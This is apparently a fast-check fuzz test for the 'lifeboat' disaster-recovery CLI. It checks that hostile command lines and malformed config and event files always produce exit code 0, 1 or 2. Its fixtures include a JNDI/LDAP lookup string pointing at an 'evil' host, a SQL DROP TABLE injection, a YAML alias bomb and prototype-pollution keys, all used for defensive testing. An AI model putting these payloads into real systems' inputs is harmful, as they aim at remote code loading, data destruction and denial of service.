/**
 * Hostile command lines: whatever argv `lifeboat` is given, `main` answers with exit code 0, 1 or 2
 * and never throws. The generator never lets a real `simulate` run (about 0.3 s each) nor an `audit`
 * reach AWS: every `simulate` carries an invalid option value as its last option, and every `audit`
 * an unknown flag right after the command (or `--local`, in its own, smaller property).
 */
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, it } from '@jest/globals';
import fc from 'fast-check';
import { parse as parseYaml } from 'yaml';
import { main } from '../../src/cli/main.js';
import { parseFault } from '../../src/local/faults.js';
import { SCENARIOS } from '../../src/local/simulate.js';
import { EXAMPLE_TEXT } from './support/config-contract.js';
import { ensure, prototypeSnapshot, seeded, show, silenceProcessWarnings } from './support/fuzz.js';
import { INJECTIONS, hostileString } from './support/hostile.js';

/**
 * 10,000 runs, as for every entry point: most command lines reach their command, and one that reads
 * the configuration (validate, or simulate up to its invalid option) costs a few milliseconds of
 * YAML, so this file takes its 20-30 s.
 */
const CLI_RUNS = 10_000;
/** `audit --local` starts an embedded DynamoDB per run (about 30 ms): 30 runs keep the file under 10 s. */
const AUDIT_LOCAL_RUNS = 30;

const scratch = mkdtempSync(join(tmpdir(), 'lifeboat-fuzz-cli-'));
const file = (name: string) => join(scratch, name);
/** Paths under a folder that does not exist: reading or writing them fails, whatever the hostile name. */
const missing = (name: string) => join(scratch, 'missing', name.replace(/[/\\\u0000]/g, '_') || 'x');

const CONFIG_FILES: Record<string, string> = {
  'example.yaml': EXAMPLE_TEXT,
  'example.json': JSON.stringify(parseYaml(EXAMPLE_TEXT)),
  'syntax.yaml': 'version: 1\napps: [\n',
  'invalid.yaml': EXAMPLE_TEXT.replace('setIdentifier: catalog-eu-west-1', 'setIdentifer: catalog-eu-west-1').replace('rpoMinutes: 60', 'rpoMinutes: -5'),
  'empty.yaml': '',
  'garbage.yaml': '\u0000\u0001\u0002\ufffd\ud800%YAML 9\n---\n:::',
  'alias-bomb.yaml': `a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n`,
  'deep.yaml': `version: 1\napps: ${'['.repeat(3_000)}${']'.repeat(3_000)}\n`,
  'proto.yaml': '__proto__: {polluted: true}\nconstructor: {prototype: {polluted: true}}\nversion: 1\napps: []\n',
  'huge.yaml': `version: 1\napps: ["${'a'.repeat(100_000)}"]\n`,
  'injection.yaml': EXAMPLE_TEXT.replace("'#payments-oncall'", "'<!channel> ${jndi:ldap://evil/a}'").replace('payments-use1-api-5xx', "'; DROP TABLE alarms;--"),
};
/** Event files that are never valid JSON, so `simulate --event` stops before building a world. */
const EVENT_FILES: Record<string, string> = {
  'not-json.json': 'not json',
  'empty.json': '',
  'open.json': '{',
  'trailing.json': '{"Records": []} <!channel>',
  'bom.json': '\ufeff{}',
  'nul.json': '\u0000',
  'deep.json': '['.repeat(100_000),
  'single-quoted.json': "{'detail-type': 'CloudWatch Alarm State Change'}",
};

const configPath = fc.oneof(
  fc.constantFrom(...Object.keys(CONFIG_FILES).map(file)),
  fc.constant(scratch), // a directory
  hostileString.filter((name) => name.length < 200).map(missing),
);
const eventPath = fc.oneof(fc.constantFrom(...Object.keys(EVENT_FILES).map(file)), fc.constant(scratch), hostileString.filter((name) => name.length < 200).map(missing));
const outPath = fc.oneof(fc.constant(file('schema-out.json')), fc.constant(scratch), hostileString.filter((name) => name.length < 200).map(missing));

const KNOWN_APPS = ['payments', 'catalog'];
const FAULTS = ['crash:ShiftTraffic:after', 'route53:Throttling:3', 'k8s:429', 'eks:ResourceInUseException', 'dynamodb:ThrottlingException', 'slack:hangup', 'slack:503:2'];

/**
 * A free token: anything, but never a command that can run for real (`simulate`, `audit`) nor an
 * option that reads or writes a file (`-c/--config`, `-e/--event`, `-o/--out`): those only ever get
 * a value from the pools above.
 */
const isSafeFreeToken = (token: string) => !/^-[ceo]|^--(?:config|event|out)/.test(token) && token !== 'simulate' && token !== 'audit';
const freeToken = fc
  .oneof(
    fc.constantFrom('--json', '--verbose', '--reset', '--verify', '--local', '--help', '-h', 'help', '--', '-', '--app', '-a', '--scenario', '-s', '--inject', '--table', '--version', '-V', '--json=1', '--no-json', '-x', '--unknown', 'validate', 'schema', 'bogus', ''),
    fc.constantFrom(...INJECTIONS),
    hostileString.filter((token) => token.length < 1_000),
  )
  .filter(isSafeFreeToken);
/** Mostly none, so that most command lines get past the argument parser to the command itself. */
const freeTokens = (max: number) => fc.oneof({ arbitrary: fc.constant([] as string[]), weight: 2 }, { arbitrary: fc.array(freeToken, { minLength: 1, maxLength: max }), weight: 1 });

const globalOptions = fc.oneof(fc.constant([] as string[]), fc.constant(['--verbose']), configPath.map((path) => ['--config', path]), configPath.map((path) => ['-c', path]));

const invalidFault = fc.oneof(fc.constantFrom(...INJECTIONS), hostileString, fc.constantFrom('crash', 'crash:X', 'crash:X:never', 'route53:Throttling:0', 'route53:Throttling:101', 'k8s:418', 'slack:200', 'eks:Nope', 'route53:Throttling:1.5')).filter((spec) => {
  try {
    parseFault(spec);
    return false;
  } catch {
    return true;
  }
});
const unknownApp = hostileString.filter((name) => name.length > 0 && !KNOWN_APPS.includes(name));

/** The last option of every generated `simulate`: an invalid value that stops it before a world is built. */
const sabotage = fc.oneof(
  unknownApp.map((app) => ['--app', app]),
  hostileString.filter((name) => !(SCENARIOS as readonly string[]).includes(name)).map((scenario) => ['--scenario', scenario]),
  invalidFault.map((spec) => ['--inject', spec]),
  eventPath.map((path) => ['--event', path]),
  fc.constantFrom(...['syntax.yaml', 'invalid.yaml', 'empty.yaml', 'garbage.yaml', 'alias-bomb.yaml', 'deep.yaml', 'proto.yaml', 'huge.yaml'].map(file)).map((path) => ['--config', path]),
);
/** Options `simulate` may carry before its sabotage, valid or not. */
const simulateOption = fc.oneof(
  fc.constantFrom(...KNOWN_APPS).map((app) => ['--app', app]),
  fc.constantFrom(...KNOWN_APPS).map((app) => ['-a', app]),
  fc.constantFrom(...SCENARIOS).map((scenario) => ['--scenario', scenario]),
  fc.array(fc.oneof(fc.constantFrom(...FAULTS), invalidFault), { minLength: 1, maxLength: 3 }).map((specs) => ['--inject', ...specs]),
  eventPath.map((path) => ['--event', path]),
  fc.constantFrom(['--json'], ['--reset']),
);

const argv = fc.oneof(
  { arbitrary: fc.tuple(globalOptions, fc.constantFrom([], ['--json']), freeTokens(3)).map(([g, json, free]) => [...g, 'validate', ...json, ...free]), weight: 2 },
  { arbitrary: fc.tuple(globalOptions, fc.option(fc.tuple(fc.constantFrom('--out', '-o'), outPath)), freeTokens(3)).map(([g, out, free]) => [...g, 'schema', ...(out ?? []), ...free]), weight: 2 },
  { arbitrary: fc.tuple(globalOptions, fc.array(simulateOption, { maxLength: 4 }), freeTokens(2), sabotage).map(([g, options, free, last]) => [...g, 'simulate', ...options.flat(), ...free, ...last]), weight: 4 },
  { arbitrary: fc.tuple(globalOptions, fc.string({ unit: fc.constantFrom('a', 'b', 'z', '-'), minLength: 1, maxLength: 8 }), freeTokens(3)).map(([g, flag, free]) => [...g, 'audit', `--x-fuzz${flag}`, ...free]), weight: 2 },
  { arbitrary: fc.tuple(globalOptions).map(([g]) => [...g, 'audit']), weight: 1 },
  { arbitrary: fc.tuple(freeToken.filter((t) => !['validate', 'schema', 'help', '--help', '-h'].includes(t)), freeTokens(4)).map(([first, rest]) => [first, ...rest]), weight: 4 },
  { arbitrary: fc.tuple(fc.constantFrom('validate', 'schema', 'simulate', 'audit', 'help', 'bogus'), fc.constantFrom('--help', '-h')).map(([command, help]) => [command, help]), weight: 1 },
);

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

async function run(args: readonly string[]): Promise<Run> {
  let stdout = '';
  let stderr = '';
  const code = await main(['node', 'lifeboat', ...args], (text) => void (stdout += text), (text) => void (stderr += text));
  return { code, stdout, stderr };
}

/** Exit 0, 1 or 2; a refusal says why on stderr; a typed error lists its issues, each naming a path. */
function ensureExit(args: readonly string[], { code, stdout, stderr }: Run): void {
  ensure(code === 0 || code === 1 || code === 2, () => `exit code ${show(code)} for ${show(args)}`);
  // A refusal says why: on stderr, or (audit --verify) on stdout with the trail.
  if (code !== 0) ensure(stderr.trim().length > 0 || stdout.trim().length > 0, () => `exit ${code} without a word for ${show(args)}`);
  if (/^invalid [^\n]*:\n/.test(stderr)) {
    const firstIssue = stderr.split('\n')[1] ?? '';
    ensure(/^\S.*?: \S/.test(firstIssue), () => `an issue without a path: ${show(stderr.slice(0, 300))}`);
  }
  // The sabotage worked: nothing of a simulation's progress or report ever shows.
  ensure(!/^\[\+\d\d:\d\d\]|"outcome":/m.test(stdout), () => `a simulation ran for ${show(args)}`);
}

describe('lifeboat (main) under hostile arguments', () => {
  const stateDir = process.env.LIFEBOAT_STATE_DIR!;
  let checkPrototypes: () => void;
  let restoreWarnings: () => void;
  beforeAll(() => {
    checkPrototypes = prototypeSnapshot();
    restoreWarnings = silenceProcessWarnings();
    mkdirSync(scratch, { recursive: true });
    for (const [name, text] of Object.entries({ ...CONFIG_FILES, ...EVENT_FILES })) writeFileSync(file(name), text);
    for (const name of Object.keys(EVENT_FILES)) {
      ensure((() => { try { JSON.parse(EVENT_FILES[name]!); return false; } catch { return true; } })(), `${name} must not be valid JSON`);
    }
  });
  afterAll(() => {
    restoreWarnings();
    rmSync(scratch, { recursive: true, force: true });
    checkPrototypes();
  });

  it('exits 0, 1 or 2 and never throws, for validate, schema, sabotaged simulate and audit, unknown commands and flags', async () => {
    await fc.assert(
      fc.asyncProperty(argv, async (args) => ensureExit(args, await run(args))),
      seeded(0xc11_0001, CLI_RUNS),
    );
    // Not one simulation started: it would have created the embedded default's state.
    ensure(readdirSync(stateDir).length === 0, () => `the state folder is not empty: ${show(readdirSync(stateDir))}`);
  });

  it('exits 0, 1 or 2 for audit --local with any incident id', async () => {
    const incident = fc.oneof(hostileString, fc.constantFrom('', ' ', 'x'.repeat(3_000), 'drill-payments-us-west-2-0123456789'));
    const flags = fc.subarray(['--verify', '--json']);
    await fc.assert(
      fc.asyncProperty(incident, flags, async (id, extra) => {
        const args = ['audit', '--local', ...extra, '--', id];
        ensureExit(args, await run(args));
      }),
      seeded(0xc11_0002, AUDIT_LOCAL_RUNS),
    );
  });
});
